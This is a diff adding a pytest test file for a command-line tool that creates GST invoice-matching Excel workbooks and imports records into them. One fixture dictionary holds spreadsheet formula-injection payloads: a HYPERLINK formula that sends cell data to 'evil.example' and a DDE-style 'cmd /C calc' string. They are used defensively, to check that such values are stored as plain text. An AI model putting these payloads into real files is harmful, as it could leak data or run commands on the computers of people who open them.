@@ -1,0 +1,143 @@
+"""``new`` and ``import``: client workbooks from the template, records appended, text kept as text."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from lctools import parts, sheet_part, table_rows
+
+from ims_excel.cli import main, sample_path
+from ims_excel.formats import load
+from ims_excel.workbook import io as book_io
+from ims_excel.workbook.package import Package
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "formats"
+GSTIN = "27AAACR5055K1Z7"
+
+NASTY = {  # what a spreadsheet would run as a formula if it were written as one
+    "Supplier Name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "Document Number": "-2+3",
+    "Remarks": "+cmd|' /C calc'!A0",
+}
+
+
+def _new(tmp_path: Path, name: str = "c.xlsm") -> Path:
+    book = tmp_path / name
+    assert main(["new", str(book), "--gstin", GSTIN, "--name", "Client & Co", "--period", "2026-10"]) == 0
+    return book
+
+
+def test_new_fills_config_and_refuses_to_overwrite(tmp_path, capsys):
+    book = _new(tmp_path)
+    with Package(book) as pkg:
+        values, _ = book_io.read_config(pkg)
+        props = pkg.custom_properties()
+    assert values["RecipientGSTIN"] == GSTIN and values["LegalName"] == "Client & Co"
+    assert values["ReturnPeriod"] == "2026-10" and values["FilingFrequency"] == "Monthly"
+    assert props["IMSLayout"] == book_io.layout_signature() and props["IMSPackageVersion"]
+    assert "xl/vbaProject.bin" in parts(book)
+    capsys.readouterr()
+    assert main(["new", str(book), "--gstin", GSTIN, "--period", "2026-10"]) == 2
+    assert "exists already" in capsys.readouterr().err
+    assert main(["new", str(tmp_path / "x.xlsm"), "--gstin", "27AAACR5055K1Z8", "--period", "2026-10"]) == 2
+    assert "not a valid GSTIN" in capsys.readouterr().err
+    assert not (tmp_path / "x.xlsm").exists()
+
+
+def test_import_appends_records_and_leaves_existing_ones_alone(tmp_path, capsys):
+    book = _new(tmp_path)
+    assert main(["import", str(book), str(sample_path("sample_inward.csv"))]) == 0
+    rows = table_rows(book)
+    assert len(rows) == 34 and rows[0]["Section"] != ""  # the template's blank row was used, not skipped
+    assert {r["Document Number"] for r in rows} >= {"000123", "1234567890123456"}  # text stays text
+    # a person decides in the workbook, then the download is imported again
+    wb = openpyxl.load_workbook(book, keep_vba=True)
+    ws = wb["Inward"]
+    header = [c.value for c in ws[1]]
+    ws.cell(2, header.index("Action") + 1, "Reject")
+    ws.cell(2, header.index("Remarks") + 1, "goods not received")
+    wb.save(book)
+    capsys.readouterr()
+    assert main(["import", str(book), str(sample_path("sample_inward.csv"))]) == 0
+    assert "0 records added" in capsys.readouterr().out
+    again = table_rows(book)
+    assert len(again) == 34
+    assert again[0]["Action"] == "Reject" and again[0]["Remarks"] == "goods not received"
+    with Package(book) as pkg:
+        assert pkg.table("Inward").ref == f"A1:{pkg.table('Inward').ref.split(':')[1][:-2]}35"
+
+
+def test_import_portal_json_and_outward(tmp_path):
+    book = _new(tmp_path)
+    portal = load(FIXTURES / "ims_offline_download.json")
+    rep = book_io.import_sources(book, [FIXTURES / "ims_offline_download.json", sample_path("sample_outward.csv")])
+    assert rep.added == {"Inward": len(portal), "Outward": 5}
+    assert len(table_rows(book)) == len(portal)
+    assert len(table_rows(book, "Outward")) == 5
+    inward = book_io.load_book(book).inward.frame
+    assert sorted(inward["document_number"]) == sorted(portal["document_number"])
+    assert inward["taxable_value"].sum() == pytest.approx(portal["taxable_value"].sum())
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
+    src = tmp_path / "nasty.csv"
+    lines = (sample_path("sample_inward.csv")).read_text(encoding="utf-8").splitlines()
+    header = lines[0].split(",")
+    import csv
+    import io
+
+    reader = list(csv.reader(io.StringIO("\n".join(lines))))
+    body = reader[1]
+    for col, value in NASTY.items():
+        body[header.index(col)] = value
+    out = io.StringIO()
+    csv.writer(out).writerows([reader[0], body])
+    src.write_text(out.getvalue(), encoding="utf-8")
+    book = _new(tmp_path)
+    book_io.import_sources(book, [src])
+    book_io.process(book, backup=False)
+    # the raw XML: inline strings, no formula element in those cells
+    with zipfile.ZipFile(book) as z:
+        xml = z.read(sheet_part(book, "Inward")).decode()
+        val = z.read(sheet_part(book, "Validation")).decode()
+    with Package(book) as pkg:
+        columns = pkg.table("Inward").columns
+    for col, value in NASTY.items():
+        letters = book_io.col_letters(columns.index(col) + 1)
+        cell = re.search(rf'<c r="{letters}2"[^>]*>.*?</c>', xml).group(0)
+        assert 't="inlineStr"' in cell and "<f" not in cell, cell
+    assert "<f>" not in val and "<f " not in val  # the Validation sheet holds values only
+    # what programs that open the file see: text, not formulas
+    ws = openpyxl.load_workbook(book, keep_vba=True)["Inward"]
+    first = {c.value: c.column for c in ws[1]}
+    for col, value in NASTY.items():
+        cell = ws.cell(2, first[col])
+        assert cell.value == value and cell.data_type == "s", col
+    row = table_rows(book)[0]
+    assert all(row[c] == v for c, v in NASTY.items())
+
+
+def test_cells_below_the_table_are_never_overwritten(tmp_path, capsys):
+    book = _new(tmp_path)
+    wb = openpyxl.load_workbook(book, keep_vba=True)
+    wb["Inward"]["A5"] = "our note"
+    wb.save(book)
+    before = book.read_bytes()
+    code = main(["import", str(book), str(sample_path("sample_inward.csv"))])
+    assert code == 2 and "row 5 below the Inward table is in use" in capsys.readouterr().err
+    assert book.read_bytes() == before
+
+
+def test_unusable_source_exits_2_and_writes_nothing(tmp_path, capsys):
+    book = _new(tmp_path)
+    bad = tmp_path / "bad.csv"
+    bad.write_text("Section,Supplier GSTIN,Document Number,Document Date,IGST\n"
+                   "B2B,29AAACS2222T1ZX,INV-1,2026-10-05,12O\n", encoding="utf-8")
+    before = book.read_bytes()
+    assert main(["import", str(book), str(bad)]) == 2
+    assert "row 2, column 'IGST': '12O' is not an amount" in capsys.readouterr().err
+    assert book.read_bytes() == before
